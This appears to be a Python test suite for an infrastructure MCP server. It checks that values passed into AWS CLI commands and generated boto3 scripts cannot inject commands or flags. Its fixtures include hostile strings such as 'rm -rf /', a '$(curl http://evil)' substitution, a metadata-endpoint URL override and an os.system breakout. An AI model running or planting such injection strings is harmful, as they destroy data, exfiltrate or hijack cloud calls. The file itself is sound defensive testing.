"""No value can change the command that reaches the upstream (issue 3, "Security and bad input")."""

from __future__ import annotations

import ast
import json
import shlex
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from infra_mcp.errors import ValidationFailed
from infra_mcp.upstream import operations as ops
from infra_mcp.upstream.call_aws import CallAwsDialect
from infra_mcp.upstream.commands import build_cli_command, kebab
from infra_mcp.upstream.run_script import RunScriptDialect, generate_script
from tests.fakes.aws_mcp_servers import parse_script, read_script_request

NASTY = [
    'it\'s "quoted"',
    "a b  c",
    "line1\nline2\r\n",
    "x; rm -rf /",
    "$(curl http://evil)",
    "`id`",
    "--endpoint-url http://169.254.169.254/",
    "' --endpoint-url 'http://evil",
    "ünïcødé ☃ 日本語 \u200b",
    "\\'\\\"",
    "",
]
HUGE = "a'b\"c $(d) ;\n" * 8_000  # ~100 KB; tested on its own: shlex.split is slow on it

# Text the transport can carry: any unicode except lone surrogates (not encodable as UTF-8).
text = st.text(st.characters(exclude_categories=("Cs",)), max_size=200)
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | text,
    lambda children: st.lists(children, max_size=4) | st.dictionaries(text, children, max_size=4),
    max_leaves=20,
)
identifiers = text.filter(lambda s: s != "" and not s.startswith("-"))


def split_flags(command: str) -> dict[str, list[str]]:
    """Split as the upstream does, then collect each flag's values (a flag given twice shows twice)."""
    argv = shlex.split(command)
    assert argv[0] == "aws"
    flags: dict[str, list[str]] = {}
    rest = argv[3:]
    assert len(rest) % 2 == 0, "every flag has exactly one value"
    for name, value in zip(rest[::2], rest[1::2], strict=True):
        assert name.startswith("--")
        flags.setdefault(name, []).append(value)
    return flags


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(props=st.dictionaries(text, json_values, max_size=6), nasty=st.sampled_from(NASTY))
@example(props={"CidrBlock": "10.0.0.0/16"}, nasty="x; rm -rf /")
def test_any_desired_state_arrives_as_one_argument_that_round_trips(props: dict[str, Any], nasty: str) -> None:
    props = {**props, "Tag": nasty}
    call = ops.create_resource("AWS::EC2::VPC", props, region="us-east-1", client_token="tok-1")
    flags = split_flags(CallAwsDialect().encode(call)["cli_command"])
    assert flags == {
        "--type-name": ["AWS::EC2::VPC"],
        "--desired-state": [flags["--desired-state"][0]],
        "--client-token": ["tok-1"],
        "--region": ["us-east-1"],
    }
    assert json.loads(flags["--desired-state"][0]) == props


@settings(max_examples=100, deadline=None)
@given(identifier=identifiers | st.sampled_from([n for n in NASTY if n and not n.startswith("-")]))
def test_any_identifier_arrives_as_exactly_the_original(identifier: str) -> None:
    command = build_cli_command(
        "cloudcontrol", "GetResource", {"TypeName": "AWS::S3::Bucket", "Identifier": identifier}, region="eu-west-1"
    )
    flags = split_flags(command)
    assert flags["--identifier"] == [identifier]
    assert flags["--region"] == ["eu-west-1"]
    assert "--endpoint-url" not in flags


@settings(max_examples=100, deadline=None)
@given(patch_value=json_values, path=text)
def test_any_patch_document_arrives_as_one_json_argument(patch_value: Any, path: str) -> None:
    patch = [{"op": "replace", "path": "/" + path, "value": patch_value}]
    call = ops.update_resource("AWS::EC2::VPC", "vpc-1", patch, region="us-east-1", client_token=None)
    flags = split_flags(CallAwsDialect().encode(call)["cli_command"])
    assert json.loads(flags["--patch-document"][0]) == patch
    assert "--client-token" not in flags


def test_a_100_kb_value_arrives_as_one_intact_argument() -> None:
    call = ops.create_resource("AWS::Lambda::Function", {"Code": HUGE}, region="us-east-1", client_token=None)
    flags = split_flags(CallAwsDialect().encode(call)["cli_command"])
    assert json.loads(flags["--desired-state"][0]) == {"Code": HUGE}
    request = read_script_request(RunScriptDialect().encode(call)["code"])
    assert json.loads(request["params"]["DesiredState"]) == {"Code": HUGE}


def test_json_values_are_compact() -> None:
    call = ops.create_resource("AWS::EC2::VPC", {"A": [1, 2], "B": {"C": "d"}}, region="us-east-1", client_token=None)
    assert split_flags(CallAwsDialect().encode(call)["cli_command"])["--desired-state"] == ['{"A":[1,2],"B":{"C":"d"}}']


def test_commands_use_explicit_flags_never_cli_input_json() -> None:
    command = CallAwsDialect().encode(ops.list_resources("AWS::EC2::VPC", region="us-east-1", next_token="abc"))
    assert command["cli_command"].startswith("aws cloudcontrol list-resources --type-name AWS::EC2::VPC")
    assert "--next-token abc" in command["cli_command"]
    assert "cli-input-json" not in command["cli_command"]


def test_operation_names_become_cli_verbs() -> None:
    assert kebab("GetResourceRequestStatus") == "get-resource-request-status"
    assert kebab("GetCallerIdentity") == "get-caller-identity"


@pytest.mark.parametrize("value", ["--debug", "-x"])
def test_a_value_that_argparse_would_read_as_an_option_goes_glued_to_its_flag(value: str) -> None:
    call = ops.get_resource("AWS::EC2::VPC", value, region="us-east-1")
    argv = shlex.split(CallAwsDialect().encode(call)["cli_command"])
    assert f"--identifier={value}" in argv
    assert value not in argv


@pytest.mark.parametrize(
    ("kwargs", "field"),
    [
        ({"type_name": "AWS::EC2::VPC --endpoint-url x"}, "type_name"),
        ({"type_name": "EC2::VPC"}, "type_name"),
        ({"region": "us-east-1; rm"}, "region"),
        ({"region": "--endpoint-url"}, "region"),
        ({"client_token": "a b"}, "client_token"),
        ({"client_token": "-x"}, "client_token"),
    ],
)
def test_malformed_type_region_or_token_is_validation_001(kwargs: dict[str, str], field: str) -> None:
    args = {"type_name": "AWS::EC2::VPC", "region": "us-east-1", "client_token": "t"} | kwargs
    with pytest.raises(ValidationFailed) as caught:
        ops.create_resource(args["type_name"], {}, region=args["region"], client_token=args["client_token"])
    assert caught.value.code == "VALIDATION_001"
    assert caught.value.details["field"] == field


def test_a_lone_surrogate_is_refused_before_reaching_the_transport() -> None:
    with pytest.raises(ValidationFailed):
        CallAwsDialect().encode(ops.get_resource("AWS::EC2::VPC", "vpc-\ud800", region="us-east-1"))


def test_nan_cannot_be_smuggled_into_json() -> None:
    with pytest.raises(ValueError, match="JSON"):
        ops.create_resource("AWS::EC2::VPC", {"x": float("nan")}, region="us-east-1", client_token=None)


# ---- run_script --------------------------------------------------------------------------------


def _literals(code: str) -> list[ast.Constant]:
    tree = parse_script(code)
    return [n for n in ast.walk(tree) if isinstance(n, ast.Constant) and isinstance(n.value, str)]


TEMPLATE_CODE = generate_script(ops.get_caller_identity(region="us-east-1"))


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(props=st.dictionaries(text, json_values, max_size=6), nasty=st.sampled_from(NASTY))
def test_run_script_code_carries_values_only_as_one_literal(props: dict[str, Any], nasty: str) -> None:
    props = {**props, "Payload": nasty + '"""\nimport os; os.system("id")\n'}
    call = ops.create_resource("AWS::EC2::VPC", props, region="us-east-1", client_token="tok")
    code = RunScriptDialect().encode(call)["code"]
    request = read_script_request(code)
    assert request == {
        "service_name": "cloudcontrol",
        "operation_name": "CreateResource",
        "region_name": "us-east-1",
        "params": {
            "TypeName": "AWS::EC2::VPC",
            "DesiredState": request["params"]["DesiredState"],
            "ClientToken": "tok",
        },
    }
    assert json.loads(request["params"]["DesiredState"]) == props
    # The code's structure is the fixed template's whatever the values: only the literal differs.
    tree = parse_script(code)
    for node in ast.walk(tree):
        if isinstance(node, ast.Constant) and node.value == json.dumps(request, separators=(",", ":")):
            node.value = "<request>"
    template = parse_script(TEMPLATE_CODE)
    for node in ast.walk(template):
        if isinstance(node, ast.Constant) and isinstance(node.value, str) and node.value.startswith('{"service_name"'):
            node.value = "<request>"
    assert ast.dump(tree) == ast.dump(template)


def test_run_script_code_calls_call_boto3_with_pascal_case_operation() -> None:
    code = generate_script(ops.get_request_status("abc", region="ap-southeast-2"))
    request = read_script_request(code)
    assert request["operation_name"] == "GetResourceRequestStatus"
    assert request["region_name"] == "ap-southeast-2"
    assert request["params"] == {"RequestToken": "abc"}
    assert any(c.value == "INFRA_MCP_RESULT:" for c in _literals(code))
